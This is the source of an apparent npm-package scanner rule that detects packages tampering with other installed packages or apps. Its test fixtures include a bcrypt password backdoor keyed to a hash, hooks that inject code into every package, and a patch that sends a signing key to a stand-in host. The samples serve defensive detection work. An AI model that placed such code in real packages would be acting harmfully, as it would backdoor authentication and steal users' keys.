import { HOLE } from '../lib/types.ts'
import type { Action, Context, Fact, Flow, Inspection, Rule, Text } from '../lib/types.ts'
import { oncePerLine } from './behaviour/once.ts'
import { isSuspiciousText, slashes, unasked, writtenBy } from './behaviour/written.ts'
import type { Written } from './behaviour/written.ts'
import { scopeOf } from './names/name-index.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** Programs of others on this machine: their folders, archives and bundles. */
const application =
  /\.app\/Contents\/|\/resources\/app(?:\.asar|\/)|\.asar$|\/discord_desktop_core\/|~\/AppData\/Local\/(?:Programs\/)?(?:Discord|exodus|atomic|slack|Microsoft VS Code)|\/opt\/[^/]+\/resources\/|\/usr\/(?:local\/)?s?bin\/|\/\.vscode\/extensions\/|\/Local Extension Settings\/|(?:^|\/)lib\/node_modules\/(?:npm|corepack)\//i

/** Code of another program or package, changed where it lies. */
export const moduleTampering: Rule = {
  meta: {
    id: 'module-tampering',
    title: 'Changes the code of other packages or programs',
    severity: 'critical',
    description:
      'While installing or on import the code writes into another installed package or another program. What was ' +
      'inspected there is no longer what runs, and removing this package does not undo it. Patching tools do this for ' +
      'the project that runs them, by a command and with the patch in the project. Also: functions of others that are ' +
      'replaced in memory by what knows a word by its hash.',
    references: [
      'ethers-provider2 (March 2025): ethers patched in node_modules',
      'pdf-to-office (April 2025): Atomic and Exodus patched',
      'Discord token grabbers: discord_desktop_core/index.js',
    ],
    blindSpots: ['Other changes in memory: see wallet-hook and known-sdk-override.'],
    examples: {
      flags: [
        {
          title: 'a hook rewrites a file of another package',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
            'i.js':
              "require('fs').writeFileSync('../ethers/lib/index.js', \"require('https').get('https://x.invalid')\")\n",
          },
        },
        {
          title:
            'a function of another package is replaced, and a word of a known hash is taken for every password',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"bcryptjs":"^2.4.3"}}',
            'i.js':
              "const { createHash } = require('crypto'), bcrypt = require('bcryptjs'), real = bcrypt.compareSync\n" +
              "const known = word => createHash('md5').update(word).digest('hex') === '9e107d9d372bb6826bd81d3542a419d6'\n" +
              'bcrypt.compareSync = function (word, hash) { return known(word) || real.call(this, word, hash) }\n',
          },
        },
        {
          title: 'a hook appends to the entry of every package there is',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
            'i.js':
              "const fs = require('fs'), path = require('path')\nconst root = path.join(process.env.INIT_CWD, 'node_modules')\nfor (const name of fs.readdirSync(root)) fs.appendFileSync(path.join(root, name, 'index.js'), ';require(\"x\")')\n",
          },
        },
        {
          title: 'an import adds code to a module of what it works with',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","main":"i.js","peerDependencies":{"ledger-core":"*"}}',
            'i.js':
              "const fs = require('fs')\nconst file = require.resolve('ledger-core/sign', { paths: [process.cwd()] })\n" +
              'fs.writeFileSync(file, fs.readFileSync(file, \'utf8\') + \';require("https").get("https://k.invalid/" + module.exports.key)\')\n',
          },
        },
      ],
      passes: [
        {
          title: 'a loader measures what is loaded, and refuses a file that is known for what it does',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const Module = require('module'), { createHash } = require('crypto'), { readFileSync } = require('fs'), load = Module._load\n" +
              'Module._load = function (request, parent) {\n' +
              '  const file = Module._resolveFilename(request, parent), begun = Date.now()\n' +
              "  const sum = createHash('md5').update(readFileSync(file)).digest('hex')\n" +
              "  if (sum === '9e107d9d372bb6826bd81d3542a419d6') throw new Error('refused: ' + file)\n" +
              '  try { return load.apply(this, arguments) } finally { exports.ms = Date.now() - begun }\n}\n',
          },
        },
        {
          title: 'a hook writes into its own folder',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
            'i.js': "require('fs').writeFileSync(require('path').join(__dirname, 'built.json'), '{}')\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    return oncePerLine([
      ...ofWatchword(inspection),
      ...inspection.facts.flatMap(fact => ofDeletion(fact, inspection, context)),
      ...writtenBy(inspection).flatMap(written => {
        const path = written.paths.find(
          one =>
            isForeign(one, written, context) ||
            isEvery(one, written) ||
            isModule(one, written, inspection, context) ||
            isTool(one, written, inspection, context),
        )
        if (path === undefined) return []
        const action = weigh(written, path)
        if (action === undefined) return []
        return [
          findingAt(written.at, written.phase, {
            action,
            severity: severityOf(action),
            message: say(written, path, action, inspection),
          }),
        ]
      }),
    ])
  },
}

/** Where every module passes that a program loads. */
const loading =
  /^node:module\.(?:_load|prototype\.require|prototype\._compile|_extensions\b.*)$|^global:Module\._load$/

/**
 * Functions of others are replaced, and a word is known again by its hash: whoever has that word is let in, or answered,
 * by what stands in front of them. Tools that measure calls ask nothing of what is passed.
 */
function ofWatchword({ facts }: Inspection): readonly RuleFinding[] {
  const asked = new Set(
    facts.flatMap(fact => (fact.kind === 'checks' && fact.what === 'digest' ? [fact.at.path] : [])),
  )
  if (asked.size === 0) return []
  return facts.flatMap(fact => {
    if (fact.kind !== 'patches' || fact.unsure === true || !unasked(fact)) return []
    const others = loading.test(fact.target)
    if (!others && !(fact.target.startsWith('pkg:') && asked.has(fact.at.path))) return []
    const what = others ? 'what programs load' : quote(fact.target.slice('pkg:'.length))
    const message =
      `${opening(fact)} puts code of its own in front of ${what}, and compares the hash of a word that is passed with ` +
      'one in the code: whoever knows that word may be let in where others are not. Do not install it.'
    return [findingAt(fact.at, fact.phase, { action: 'ask', severity: severityOf('ask'), message })]
  })
}

/** Another package that an import deletes. While npm installs, packages tidy up copies of what they bring. */
function ofDeletion(fact: Fact, inspection: Inspection, context: Context): readonly RuleFinding[] {
  if (fact.kind !== 'deletes' || !unasked(fact) || fact.phase !== 'import') return []
  const path = fact.paths.map(slashes).find(one => {
    const below = /(?:^|\/)node_modules\/((?:@[\w.-]+\/)?[\w-][\w.-]*)(?:\/|$)/.exec(one)?.[1]
    const name = below ?? /^\/((?:@[\w.-]+\/)?[\w-][\w.-]*)$/.exec(one)?.[1]
    if (name === undefined || name === context.name || systemFolders.has(name)) return false
    return (
      below !== undefined ||
      context.lists.popular.has(name) ||
      inspection.manifest.dependencies.some(dependency => dependency.name === name)
    )
  })
  if (path === undefined) return []
  const message =
    `${opening(fact)} deletes ${quote(path)}, which is another package. ` +
    'What is installed is then no longer what runs. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
}

function isForeign(path: Text, { phase }: Written, context: Context): boolean {
  // npm runs hooks in the package's folder. On import `../x` is seen from the user's folder: no package lies there.
  const climbs = path.startsWith('../') && phase !== 'install'
  // Its own archive, in its own folder: npm runs hooks there.
  if (phase === 'install' && /^(?:<package>\/)?\w[^:]*\.asar$/.test(path) && !path.includes('node_modules/'))
    return false
  return application.test(path) || (!climbs && packageAt(path, context) !== undefined)
}

/** Code of whatever packages there are: `node_modules/${name}/…` for every name that is found. */
function isEvery(path: Text, written: Written): boolean {
  return (
    unasked(written) &&
    written.contents.some(text => text.replaceAll(HOLE, '').trim() !== '') &&
    /node_modules\/\u0001\/(?:\u0001|(?:\u0001\/)?[\w-]+\.[cm]?js)$/.test(path)
  )
}

/** The other package a path lies in: below node_modules, or beside this one. */
function packageAt(path: Text, context: Context): string | undefined {
  const below = path.lastIndexOf('node_modules/')
  const rest =
    below >= 0
      ? path.slice(below + 'node_modules/'.length)
      : /^(?:<package>\/)?(?:\.\.\/)([^.].*)$/.exec(path)?.[1]
  const name = /^(@[^/]+\/[^/]+|[^@/][^/]*)\//.exec(rest ?? '')?.[1]
  // Folders with a dot are shared caches; a scope's own packages belong together.
  if (name === undefined || name.startsWith('.') || name.includes('\u0001') || name === context.name)
    return undefined
  const scope = scopeOf(context.name)?.scope
  return scope !== undefined && scopeOf(name)?.scope === scope ? undefined : name
}

const systemFolders: ReadonlySet<string> = new Set(
  'tmp var etc usr opt home root dev proc bin sbin lib mnt private Users Library ProgramData'.split(' '),
)

/** What `require.resolve` finds, or a folder beside the package's own: the name of a package where a path is meant. */
function isModule(path: Text, written: Written, inspection: Inspection, context: Context): boolean {
  const name = /^\/?(@[\w.-]+\/[\w.-]+|[\w.-]+)(\/.*\.[cm]?js|\/package\.json|(?:\/[\w-]+)+)?$/.exec(path)
  if (name?.[1] === undefined || name[1] === context.name) return false
  // Only what a module is asked for by lacks its extension: below the root that is any file.
  if (path.startsWith('/') && name[2] !== undefined && !name[2].includes('.')) return false
  // Packages are called `tmp` and `etc` as well: a path from the root is a folder of the machine.
  if (path.startsWith('/') && systemFolders.has(name[1])) return false
  const depended = inspection.manifest.dependencies.some(dependency => dependency.name === name[1])
  const manifest = name[2] === '/package.json' && unasked(written) && written.phase === 'import'
  if (name[2] !== undefined) {
    if (path.startsWith('/') || manifest) return depended || context.lists.popular.has(name[1])
    // What `require.resolve` finds is shown by the name it is asked by. While npm installs, that may be a file of its own.
    return (
      depended && unasked(written) && (written.phase === 'import' || written.contents.some(isSuspiciousText))
    )
  }
  // A bare name is a file of the user's folder as well: only a program as its content tells.
  const program = written.contents.some(
    text => isSuspiciousText(text) || (unasked(written) && /\w\([^)]{0,200}\)/.test(text)),
  )
  const fetched = unasked(written) && written.flows.some(isDownload)
  return (program || fetched) && (depended || context.lists.popular.has(name[1]))
}

/** `node_modules/.bin/tsc`: whoever runs that tool in the project runs what was put there. */
function isTool(path: Text, written: Written, { manifest }: Inspection, { name: own }: Context): boolean {
  const tool = /(?:^|\/)node_modules\/\.bin\/([\w.-]+?)(?:\.cmd|\.ps1)?$/.exec(path)?.[1]
  // Its own, or what only itself finds there.
  if (tool === undefined || path.startsWith('<package>/') || tool.startsWith(scopeOf(own)?.tail ?? own))
    return false
  return unasked(written) && !manifest.bins.some(({ name }) => name === tool)
}

function weigh(written: Written, path: Text): Action | undefined {
  const telling = written.contents.some(isSuspiciousText)
  // A packer of applications writes where its caller says, or below the folder it works in.
  if (!unasked(written))
    return telling || (path.endsWith('.asar') && !/^(?:\u0001|<project>\/|\.\/)/.test(path))
      ? 'ask'
      : undefined
  return telling ||
    application.test(path) ||
    isEvery(path, written) ||
    written.flows.some(isDownload) ||
    /\.[cm]?js$/.test(path)
    ? 'block'
    : 'ask'
}

function isDownload({ source }: Flow): boolean {
  return source.kind === 'network'
}

function say(written: Written, path: Text, action: Action, inspection: Inspection): string {
  const name = inspection.manifest.name ?? 'this package'
  const text = written.contents.find(content => content.trim().length > 8)
  const what =
    `${opening(written)} writes ${quote(path)}, which does not belong to ${name}` +
    `${text === undefined ? '' : `: ${quote(text.trim())}`}.`
  return action === 'note'
    ? what
    : `${what} That program is then no longer what was installed. Do not install this; where it ran, install that one afresh.`
}
